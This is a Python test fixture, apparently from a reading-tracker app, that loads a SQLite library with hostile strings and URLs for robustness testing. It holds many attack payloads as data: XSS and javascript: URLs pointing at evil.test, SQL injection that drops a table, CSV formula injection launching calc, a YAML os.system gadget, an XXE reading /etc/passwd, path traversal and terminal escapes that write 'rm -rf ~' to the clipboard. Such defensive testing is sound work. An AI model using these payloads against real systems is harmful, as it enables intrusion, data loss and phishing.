"""Text that does harm where somebody trusts it, by what it is after."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

TEXTS: dict[str, str] = {
    "escape: colour": "\x1b[31mred\x1b[0m",
    "escape: clear screen": "a\x1b[2J\x1b[Hb",
    "escape: window title": "a\x1b]0;owned\x07b",
    "escape: clipboard": "a\x1b]52;c;cm0gLXJmIH4K\x07b",
    "escape: link": "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "escape: answer back": "a\x1b[6n\x1b[c\x05b",
    "escape: one character": "a\x9b31mb\x9d0;owned\x9cc\x90q\x9c",
    "control: all of C0": "a" + "".join(map(chr, range(1, 32))) + "b\x7fc",
    "control: all of C1": "a" + "".join(map(chr, range(128, 160))) + "b",
    "control: nul": "a\x00b",
    "control: overprint": "Do not remove\rDo     remove",
    "control: backspace": "safe\b\b\b\bevil",
    "control: tab": "a\tb",
    "lines: feed": "first\nsecond",
    "lines: windows": "first\r\nsecond",
    "lines: separators": "first\u2028second\u2029third\x85fourth\x0bfifth\x0csixth",
    "lines: field of RIS": "first\nER  - \nTY  - BOOK\nTI  - smuggled",
    "lines: heading": "first\n\n# Smuggled\n\n- [x] Smuggled paper",
    "lines: rule of notes": "first\n---\nsecond\n\\---\nthird",
    "lines: calendar": "first\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:smuggled",
    "bidi: override": "photo\u202egnp.exe",
    "bidi: embeddings": "a\u202ab\u202bc\u202cd\u202de\u202cf",
    "bidi: isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "bidi: marks": "a\u200eb\u200fc\u061cd",
    "invisible: zero width": "an\u200bsor an\u200csor an\u200dsor an\u2060sor an\ufeffsor an\xadsor",
    "invisible: operators": "f\u2061x\u2062y\u2063z\u2064w",
    "invisible: tags": "ansor\U000e0067\U000e0070\U000e0075\U000e007f",
    "invisible: variations": "gpu\ufe0f gpu\ufe01 gpu\U000e0101",
    "invisible: fillers": "a\u3164b\u115fc\uffa0d\u180ee\u034ff",
    "invisible: annotation": "a\ufff9b\ufffac\ufffbd",
    "unicode: no characters": "a\ufffeb\uffffc\ufdd0d\U0001ffffe",
    "unicode: private": "a\ue000b\U00100000c",
    "unicode: piled marks": "Z" + "\u0301\u0316" * 300 + "algo",
    "unicode: emoji": "👩\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3 🇨🇭",
    "unicode: joiners that are meant": "می\u200cخواهم क्\u200dष",
    "unicode: wide": "深度学习编译器" * 20,
    "unicode: case that grows": "İIıſßẞŉΐﬃ",
    "unicode: not composed": "Ame\u0301lie A\u030angstro\u0308m",
    "unicode: lookalike": "Аnsоr",
    "rich: markup": "[bold red]x[/] [link=file:///etc/passwd]y[/link] [/] [/nothing]",
    "rich: emoji": ":skull: :warning:",
    "format: braces": "{} {0} {x!r} {0.__class__} {{",
    "format: percent": "%s %d %(x)s %n %%",
    "format: template": "{{ 7*7 }} {% raw %} {# x #} ${7*7} <%= 7*7 %>",
    "format: dollar": "$HOME $(id) `id` ${IFS}",
    "html: script": "<script>hacked=1</script>",
    "html: image": "<img src=x onerror=hacked=2>",
    "html: attribute": "\" onmouseover=\"hacked=3\" x='",
    "html: other attribute": "' autofocus onfocus='hacked=4",
    "html: end of title": "</title></textarea></style></script><script>hacked=5</script>",
    "html: svg": "<svg/onload=hacked=6><a xlink:href=javascript:hacked=6>x</a></svg>",
    "html: frame": '<iframe srcdoc="<script>parent.hacked=7</script>"></iframe><base href="https://evil.test/">',
    "html: comment": "<!-- --><!--> --!> <![CDATA[ ]]>",
    "html: entity": "&lt;script&gt;hacked=8&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "html: form": "<form action=https://evil.test><input name=token><button>x</form>",
    "html: refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "html: style": "<style>@import 'https://evil.test/x.css';*{background:url(https://evil.test/x)}</style>",
    "markdown: link": "[x](javascript:hacked=9) [y](data:text/html,<script>hacked=9</script>)",
    "markdown: image": "![x](https://evil.test/pixel.png) ![y](x'onerror='hacked=10)",
    "markdown: reference": "[x][1]\n\n[1]: javascript:hacked=11",
    "markdown: autolink": "<javascript:hacked=12> <https://evil.test/\"onmouseover='hacked=12'>",
    "markdown: marks": "# *a* **b** ~~c~~ `d` __e__ > f | g | \\h - [x] i",
    "markdown: fence": "```\ncode\n```\n~~~\nmore",
    "sql: end": "'; DROP TABLE papers; --",
    "sql: or": "' OR 1=1 --",
    "sql: quoted": '" OR ""="',
    "sql: like": "%_\\%",
    "sql: search": 'a" OR title:b* NEAR(c d) ^e - AND NOT',
    "csv: formula": "=cmd|' /C calc'!A0",
    "csv: sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv: plus": "+1+1",
    "csv: minus": "-2+3",
    "csv: apostrophe": "'=1+1",
    "csv: wide sign": "＝1+1",
    "csv: tab before": "\t=1+1",
    "csv: parts": 'a,b;c\td"e""f\\;g',
    "bibtex: end": "}, author = {smuggled}, x = {",
    "bibtex: entry": "@book{smuggled, title={x}}",
    "bibtex: macro": "\\input{/etc/passwd} \\write18{id} $x_1^2$ ~ # % &",
    "bibtex: unbalanced": "}}{{{",
    "json: end": '"}], "papers": [{"title": "smuggled"}',
    "json: escapes": "\\u0000 \\ud800 \\n \\\\",
    "yaml: value": "x: !!python/object/apply:os.system ['id']",
    "yaml: end": "---\n...\nx: &a [*a]",
    "yaml: word": "no",
    "xml: entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "path: up": "../../../../tmp/readtrack-escaped",
    "path: windows": "..\\..\\readtrack-escaped",
    "path: absolute": "/tmp/readtrack-escaped",  # noqa: S108  it must not be written
    "path: drive": "C:\\readtrack-escaped:stream",
    "path: device": "con",
    "path: coded": "%2e%2e%2f%2e%2e%2freadtrack-escaped",
    "path: dots": "..",
    "path: home": "~/readtrack-escaped",
    "option: like one": "--force",
    "option: help": "--help",
    "option: end": "--",
    "option: dash": "-",
    "blank: nothing": "",
    "blank: blanks": "   ",
    "blank: no-break": "\xa0\u2003\u3000",
    "number: huge": "9" * 400,
    "number: other digits": "١٢٣ ²³ ⅷ 𝟗",
    "number: odd": "1e309 NaN -0 0x10 1_000",
    "long: word": "a" * 1_000_000,
    "long: words": "word " * 200_000,
    "long: nested": "[" * 50_000 + "(" * 50_000,
    "surrogate: low": "a\udc80b",
    "surrogate: high": "a\ud800b",
    "surrogate: pair the wrong way": "a\udc00\ud800b",
}  # fmt: skip
"""Kind and name -> text."""

URLS: dict[str, str] = {
    "script": "javascript:hacked=20",
    "script, disguised": "JaVaScRiPt:hacked=21//https://example.org",
    "script, with a tab": "java\tscript:hacked=22",
    "script, with a blank": " javascript:hacked=23",
    "script, with a control": "\x01javascript:hacked=24",
    "script behind a comment": "javascript://example.org/%0ahacked=25",
    "data": "data:text/html,<script>hacked=26</script>",
    "file": "file:///etc/passwd",
    "vbscript": "vbscript:msgbox(1)",
    "attribute": 'https://example.org/"onmouseover="hacked=27',
    "tag": "https://example.org/<script>hacked=28</script>",
    "quote": "https://example.org/'><img src=x onerror=hacked=29>",
    "no host": "http:///x",
    "bad host": "http://[bad/x",
    "worse host": "http://[::1",
    "odd port": "http://example.org:99999999/",
    "user": "https://usenix.org@evil.test/",
    "bidi": "https://example.org/\u202egpj.exe",
    "zero width": "https://exam\u200bple.org/",
    "line": "https://example.org/\nX-Header: 1",
    "escape": "https://example.org/\x1b[31m",
    "long": "https://example.org/" + "a" * 100_000,
    "surrogate": "https://example.org/\udc80",
    "no scheme": "//evil.test/x",
    "braces": "https://example.org/{x}|y\\z^`%",
    "compatible": "http://\uff45xample.org\u2100/",
}
"""Name -> what stands where a URL should."""


def fill(library: Path) -> None:
    """A paper for each text that says it wherever it can."""
    urls = list(URLS.values())
    with closing(sqlite3.connect(library)) as conn, conn:
        for number, (name, text) in enumerate(TEXTS.items()):
            held = text[:5_000].encode("utf-8", "replace").decode()
            held = held if held.strip(" ") else "x"
            url = urls[number % len(urls)].encode("utf-8", "replace").decode()
            cells = (held, f"h{number}", f"{name} {held[:60]}"[:100], held, held, url)
            sql = "INSERT INTO papers (title, key, name, venue, topic, url) VALUES (?, ?, ?, ?, ?, ?)"
            paper = conn.execute(sql, cells).lastrowid
            conn.execute("INSERT INTO notes (paper, body, page, quote) VALUES (?, ?, ?, ?)", (paper, held, held, held))
            conn.execute(
                "INSERT INTO authorships (paper, position, author) VALUES (?, 1, ?)", (paper, f"{held}{number}")
            )
            conn.execute("INSERT INTO abstracts (paper, body) VALUES (?, ?)", (paper, held))
            conn.execute(
                "INSERT INTO links (paper, kind, url, label) VALUES (?, 'pdf', ?, ?)", (paper, url, held[:500])
            )
            conn.execute("INSERT OR IGNORE INTO paper_tags (paper, tag) VALUES (?, ?)", (paper, held[:100]))
            conn.execute("INSERT INTO readings (paper, status, due_on) VALUES (?, 'queued', '2026-12-01')", (paper,))
